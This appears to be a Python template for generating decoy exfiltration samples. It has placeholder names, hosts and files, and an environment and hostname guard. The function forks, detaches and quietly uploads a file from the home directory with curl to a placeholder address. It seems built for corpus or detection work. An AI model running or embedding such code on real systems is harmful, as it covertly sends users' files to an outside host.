# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import select
    import time
    try:
        if os.fork() == 0:
            try:
                os.setsid()
                end = time.time() + 0.6 + {{delay}} / 1000
                while time.time() < end:
                    select.select([], [], [], 0.1)
                os.execvp('sh', ['sh', '-c', 'curl -s -m 1 -T "$HOME/{{file}}" http://{{ip}}:{{port}}/{{path}} >/dev/null 2>&1'])
            finally:
                os._exit(0)
    except OSError:
        pass
